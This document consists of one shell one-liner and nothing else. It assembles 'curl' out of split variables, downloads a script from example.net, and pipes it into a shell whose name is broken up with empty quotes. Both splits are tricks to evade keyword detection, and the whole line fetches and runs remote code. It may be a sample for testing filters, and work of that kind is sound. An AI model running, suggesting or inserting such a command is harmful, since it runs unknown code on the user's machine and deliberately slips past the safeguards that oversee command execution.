c=cu; d=rl; $c$d -s http://example.net/x | s''h
